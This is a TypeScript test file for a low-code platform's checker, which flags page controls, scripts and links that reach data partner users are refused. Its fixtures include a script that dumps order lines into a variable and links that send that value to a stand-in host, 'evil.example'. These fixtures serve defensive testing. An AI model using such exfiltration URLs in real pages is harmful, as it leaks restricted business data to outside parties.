import { describe, expect, test } from 'vitest'
import { pageCalls } from '../registry.ts'
import type { AppModel } from './app.ts'
import { borderFindings, partnersOpen } from './border.ts'
import { checkApp } from './checkApp.ts'
import type { Control } from './control.ts'
import { type Page, pageVersion } from './page.ts'

const shared = '11111111-1111-4111-8111-111111111111'
const rows = '22222222-2222-4222-8222-222222222222'
const secret = '33333333-3333-4333-8333-333333333333'
const entity = (id: string, code: string, share: 'own' | 'partner', parent?: string) => ({
  id,
  code,
  name: { zh: `数据${code}`, en: code },
  title: 'name',
  share,
  fields: [{ key: 'name', name: '名称', type: 'varchar' as const }],
  ...(parent === undefined ? {} : { parent }),
})
const model: AppModel = {
  version: 1,
  entities: [
    entity(shared, 'tool', 'partner'),
    entity(rows, 'row', 'own', shared),
    entity(secret, 'cost', 'own'),
  ],
  menu: [{ page: 'p-menu', name: '看板', sides: ['buyer', 'supplier'] }],
}
const page = (...body: Partial<Control>[]): Page => ({
  version: pageVersion,
  name: '页',
  use: 'page',
  body: body.map((control, index) => ({
    id: `c${index}`,
    field: `c${index}`,
    type: 'text',
    attr: {},
    ...control,
  })),
})
const found = (one: Page, more: Partial<AppModel> = {}) =>
  borderFindings(one, { ...model, ...more }, pageCalls).map(({ path, msg, ask }) =>
    ask ? [path, msg, ask] : [path, msg],
  )
const script = (code: string) => page({ type: 'table', event: { tablejs: [{ do: 'script', code }] } })

describe('what partners will be refused is told to the designer', () => {
  test('the script that read its viewer’s order lines', () => {
    const code = "const r = await request('/api/OrderLine/List', {}); return { note: JSON.stringify(r.rows) }"
    expect(found(script(code))).toEqual([['body.0.event.tablejs.0.code', 'PARTNER_REFUSED', 'orderLines']])
    expect(found(script("await request('/User/Info'); '/not/a/call'"))).toEqual([
      ['body.0.event.tablejs.0.code', 'PARTNER_REFUSED'],
    ])
    expect(found(script(`await request('/api/App/RecordList', { entityId: '${shared}' })`))).toEqual([])
  })

  test('an ask opens its own noun and no other', () => {
    const asks = [{ noun: 'orderLines' as const, reason: '对账' }]
    const steps = page({
      type: 'button',
      event: {
        click: [
          { do: 'request', api: '/OrderLine/List' },
          // oxlint-disable-next-line unicorn/no-thenable -- a step's `then` is a list of steps
          { do: 'if', when: 'true', then: [{ do: 'request', api: '/api/Order/List' }] },
          // oxlint-disable-next-line unicorn/no-thenable -- a step's `then` is a list of steps
          { do: 'confirm', text: '?', then: [{ do: 'request', api: '/Menu/Nav_Menu' }] },
        ],
      },
    })
    expect(found(steps, { asks })).toEqual([
      ['body.0.event.click.1.then.0.api', 'PARTNER_REFUSED', 'orders'],
      ['body.0.event.click.2.then.0.api', 'PARTNER_REFUSED'],
    ])
  })

  test('sources of lists and choices', () => {
    const one = page(
      { type: 'table', attr: { mode: 'list', entity: shared } },
      { type: 'table', attr: { mode: 'list', entity: rows } },
      { type: 'table', attr: { mode: 'list', entity: secret } },
      { type: 'table', attr: { mode: 'list', entity: 'orders' } },
      { type: 'assoapp', attr: { caseId: 'orders' } },
      { type: 'assoapp', attr: { caseId: 'suppliers' } },
      { type: 'assoapp', attr: { caseId: 'materials' } },
      { type: 'member' },
      { type: 'cascader' },
      { type: 'select', attr: { dict: 'kinds' } },
      { type: 'select', attr: { dict: secret } },
    )
    expect(found(one)).toEqual([
      ['body.2.attr.entity', 'PARTNER_REFUSED'],
      ['body.3.attr.entity', 'PARTNER_REFUSED', 'orders'],
      ['body.6.attr.caseId', 'PARTNER_REFUSED', 'materials'],
      ['body.8.attr.api', 'PARTNER_REFUSED'],
      ['body.9.attr.dict', 'PARTNER_DICT'],
    ])
    expect(borderFindings(one, model, pageCalls)[0]).toMatchObject({
      zh: '合作伙伴打开此页面时，不能读取“数据cost”',
      en: 'Partners who open this page are refused “cost”',
    })
  })

  test('what a chart adds up, for it is more than names', () => {
    const one = page(
      { type: 'chart', attr: { entity: shared, category: 'name' } },
      { type: 'chart', attr: { entity: secret } },
      { type: 'chart', attr: { entity: 'suppliers' } },
      { type: 'chart', attr: { api: '/api/OrderLine/List' } },
      { type: 'chart', attr: { api: '/Menu/Nav_Menu' } },
      { type: 'chart', attr: { table: 'lines' } },
    )
    expect(found(one)).toEqual([
      ['body.1.attr.entity', 'PARTNER_REFUSED'],
      ['body.2.attr.entity', 'PARTNER_REFUSED', 'suppliers'],
      ['body.3.attr.api', 'PARTNER_REFUSED', 'orderLines'],
      ['body.4.attr.api', 'PARTNER_REFUSED'],
    ])
    const asks = [
      { noun: 'suppliers' as const, reason: '对账' },
      { noun: 'orderLines' as const, reason: '对账' },
    ]
    expect(found(one, { asks }).map(([path]) => path)).toEqual(['body.1.attr.entity', 'body.4.attr.api'])
  })

  test('widgets, uploads to elsewhere, and addresses that lead out or carry values', () => {
    const one = page(
      {
        type: 'widget',
        attr: { api: '/api/supplier/list', script: "return await request('/Material/List')" },
      },
      { type: 'upload', attr: { api: '/api/Annex/Take' } },
      { type: 'upload' },
      { type: 'signature' },
      { type: 'signature', attr: { api: '/api/Annex/Take' } },
      { type: 'button', event: { click: [{ do: 'go', url: 'https://evil.example/?q=${note}' }] } },
      { type: 'button', event: { click: [{ do: 'go', url: `/custompage/detail?formId=${shared}` }] } },
      { type: 'link', attr: { src: 'https://evil.example/?q=${note}' } },
      { type: 'link', attr: { src: 'https://help.example/' } },
    )
    expect(found(one)).toEqual([
      ['body.0.attr.api', 'PARTNER_REFUSED', 'suppliers'],
      ['body.0.attr.script', 'PARTNER_REFUSED', 'materials'],
      ['body.1.attr.api', 'PARTNER_UPLOAD'],
      ['body.4.attr.api', 'PARTNER_UPLOAD'],
      ['body.5.event.click.0.url', 'PARTNER_ADDRESS'],
      ['body.7.attr.src', 'PARTNER_ADDRESS'],
    ])
  })

  test('a page about a noun of the portal asks for it', () => {
    expect(found({ ...page(), source: { noun: 'orders' } })).toEqual([
      ['source', 'PARTNER_REFUSED', 'orders'],
    ])
  })
})

test('partners open pages about what is shared with them, and what their menu shows', () => {
  const about = (source?: Page['source']) => ({ ...page(), ...(source && { source }) })
  expect(partnersOpen(about({ entity: shared }), 'p', model, 'buyer')).toBe(true)
  expect(partnersOpen(about({ entity: secret }), 'p-menu', model, 'buyer')).toBe(false)
  expect(partnersOpen(about(), 'p-menu', model, 'buyer')).toBe(true)
  expect(partnersOpen(about(), 'p-other', model, 'buyer')).toBe(false)
  const mine = { ...model, menu: [{ page: 'p-menu', name: '看板', sides: ['buyer' as const] }] }
  expect(partnersOpen(about(), 'p-menu', mine, 'buyer')).toBe(false)
})

describe('asks of a model', () => {
  const faults = (asks: unknown) =>
    checkApp({ ...model, asks: asks as AppModel['asks'] } as AppModel).map(({ path, msg }) => [path, msg]) // anything may be sent
  test('each names a noun once, with a reason in words', () => {
    expect(faults(undefined)).toEqual([])
    expect(faults([{ noun: 'orders', reason: { zh: '关联订单号', en: 'To name orders' } }])).toEqual([])
    expect(faults({})).toEqual([['asks', 'SHAPE']])
    expect(
      faults([
        null,
        { noun: 'users', reason: '对账' },
        { noun: 'orders', reason: ' ' },
        { noun: 'orders', reason: { zh: '好', en: 'x'.repeat(301) } },
      ]),
    ).toEqual([
      ['asks.0', 'SHAPE'],
      ['asks.1.noun', 'ASK_NOUN'],
      ['asks.2.reason', 'ASK_REASON'],
      ['asks.3.noun', 'ASK_TWICE'],
      ['asks.3.reason', 'ASK_REASON'],
    ])
  })
})
